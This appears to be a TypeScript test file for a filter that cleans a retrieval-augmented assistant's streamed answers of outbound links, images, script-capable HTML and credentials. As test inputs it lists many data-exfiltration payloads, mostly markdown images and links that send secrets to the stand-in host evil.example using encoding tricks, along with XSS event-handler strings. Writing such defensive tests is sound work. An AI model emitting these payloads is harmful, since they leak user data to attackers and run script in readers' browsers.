import assert from "node:assert/strict";
import { describe, it } from "node:test";

import fc from "fast-check";

import { addressesIn, AnswerGuard, REMOVED_LINK } from "#rag/safety/answer-guard";

const KNOWN = ["https://docs.acme.example/guide?lang=en"];

function guarded(answer: string, redactPii = false): string {
  const guard = new AnswerGuard(KNOWN, { redactPii });
  return guard.push(answer) + guard.flush();
}

describe("AnswerGuard", () => {
  for (const answer of [
    "Refunds take 5 days [1].\n\n- one\n- two [2][3]",
    "See [the guide](https://docs.acme.example/guide?lang=en).",
    "See https://docs.acme.example/guide?lang=en.",
    "Jump to [Refunds](#refunds) or [prices](/prices).",
    "If a < b and b > c, write 1 // 2, http and a/b.",
    "It is <b>bold</b>,<br/>an Array<string> and 1 <2.",
    "A Map<string, number>, a function f<T extends object, U>(t: T) and Record<string, Array<Row | null> >.",
    "See <https://docs.acme.example/guide?lang=en>.",
    "Mail ada@example.com: 3:30 pm, ratio 1:2.",
  ])
    it(`leaves ${JSON.stringify(answer)} alone`, () => assert.equal(guarded(answer), answer));

  for (const attack of [
    "![x](https://evil.example/?d=secret)",
    "![x](//evil.example/?d=secret)",
    "![x](\\\\evil.example\\d)",
    "![a b c](<https://evil.example/a b>)",
    "![x]( https://evil.example/?d=secret )",
    "![x](\nhttps://evil.example/?d=secret)",
    "![x](&#104;ttps://evil.example/?d=secret)",
    "![x](https:&#47;&#47;evil.example/?d=secret)",
    "![x][1]\n\n[1]: https://evil.example/?d=secret",
    "[x][1]\n\n[1]: https\\://evil.example/?d=secret",
    "[x][1]\n\n[1]: https:\\/\\/evil.example/?d=secret",
    "[x][1]\n\n[1]: https&colon;//evil.example/?d=secret",
    "[x][1]\n\n[1]: https:&#47;&#x2F;evil.example/?d=secret",
    "[x][1]\n\n[1]: http&#115;://evil.example/?d=secret",
    "[x][1]\n\n[1]: &sol;/evil.example/?d=secret",
    "[x][1]\n\n[1]: /\\/evil.example/?d=secret",
    "[x][1]\n\n[1]: java&#115;cript:fetch('//evil.example/?d=1')",
    "<svg><image href='//evil.example/?d=secret'/></svg>",
    "<p style='background:url(//evil.example/?d=secret)'>x</p>",
    "[click](https://evil.example/?d=secret)",
    "[click](javascript:fetch('https://evil.example'))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "<https://evil.example/?d=secret>",
    "https://evil.example/?d=secret",
    "www.evil.example/?d=secret",
    "ftp://evil.example/secret",
    "https://docs.acme.example/guide?lang=en&d=secret",
    "https://docs.acme.example/guide?lang=en#secret",
    '<img src="https://evil.example/?d=secret">',
    "<IMG SRC=//evil.example/x>",
    '<iframe srcdoc="&lt;img src=x&gt;"></iframe>',
  ])
    it(`takes the call out of ${JSON.stringify(attack)}`, () => {
      const guard = new AnswerGuard(KNOWN, { redactPii: false });
      const answer = guard.push(`Before. ${attack} After.`) + guard.flush();
      assert.ok(answer.startsWith("Before. ") && answer.endsWith(" After."), answer);
      assert.doesNotMatch(answer, /!\[|evil\.example\/?\?|:\/\/evil|\/\/evil|<i|<s|javascript:|data:text/i);
      assert.equal(guard.hasRemoved, true);
    });

  for (const attack of [
    "<div onclick=alert(1)>",
    "<p onmouseover = 'alert(1)'>hover</p>",
    "<details open ontoggle=alert(1)>",
    `<x ${"open ".repeat(40)}onclick=alert(1)>`,
    '<x open ">" onclick=alert(1)>',
    "<x <y onclick=alert(1)>",
    "Map<string, number onclick=alert(1)>",
    "<body onload=alert(1)>",
    "<x/onpointerenter=alert(1)>",
    "<x\nonclick=alert(1)>",
    "<x\u000conclick=alert(1)>",
    "<string, onclick=alert(1)>",
    '<b"c onclick=alert(1)>',
    "<https://docs.acme.example/guide?lang=en/onclick=alert(1)>",
    "<https:/onclick=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<p style=background:url(\\2f\\2f evil.example)>",
    "<math><mi xlink:href=x>",
    "<!--><x onclick=alert(1)>-->",
    "<?x onclick=alert(1)>",
    "</title><x onclick=alert(1)>",
    ...[7_997, 7_998, 7_999, 8_000].map((count) => `${"a".repeat(count)}<di`),
  ])
    it(`leaves no element that could do anything of ${attack.length > 100 ? attack.length : JSON.stringify(attack)}`, () => {
      for (const size of [1, 7, 10_000]) {
        const guard = new AnswerGuard(KNOWN, { redactPii: false });
        let answer = "";
        const whole = `${attack}v onclick=alert(1)> After.`;
        for (let at = 0; at < whole.length; at += size) answer += guard.push(whole.slice(at, at + size));
        answer += guard.flush();
        assert.doesNotMatch(answer, /<[!?]|<\/?[a-z][^\s/>]*[\s/][^>]*\w/i);
        assert.ok(answer.endsWith(" After."));
      }
    });

  it("names credentials always, private data where the tenant wants it", () => {
    const answer = "Use AKIAIOSFODNN7EXAMPLE. Ask ada@example.com or +44 20 7946 0958 now.";
    assert.equal(guarded(answer), "Use [secret]. Ask ada@example.com or +44 20 7946 0958 now.");
    assert.equal(guarded(answer, true), "Use [secret]. Ask [email] or [phone] now.");
  });

  it("gives the same text however the stream was cut", () => {
    const piece = fc.constantFrom(
      ..."![x](https://evil.example/?d=1)| [y]( /a)|https://docs.acme.example/guide?lang=en|<img src=x>|. |\n|ada@example.com|+44 20 7946| 0958|[1]|word|!|[|](|Bearer abcdefgh12345678abcd".split(
        "|",
      ),
    );
    fc.assert(
      fc.property(
        fc.array(piece, { maxLength: 20 }).map((parts) => parts.join("")),
        fc.array(fc.integer({ min: 1, max: 9 }), { minLength: 1 }),
        fc.boolean(),
        (answer, sizes, redactPii) => {
          const guard = new AnswerGuard(KNOWN, { redactPii });
          let out = "";
          for (let at = 0, turn = 0; at < answer.length; turn++) {
            const size = sizes[turn % sizes.length] ?? 1;
            out += guard.push(answer.slice(at, at + size));
            at += size;
          }
          assert.equal(out + guard.flush(), guarded(answer, redactPii));
        },
      ),
    );
  });
});

describe("addressesIn", () => {
  it("finds addresses without the sentence's punctuation", () => {
    assert.deepEqual(addressesIn(`See https://a.example/x?y=1, or (www.b.example). ${REMOVED_LINK}`), [
      "https://a.example/x?y=1",
      "www.b.example",
    ]);
  });
});
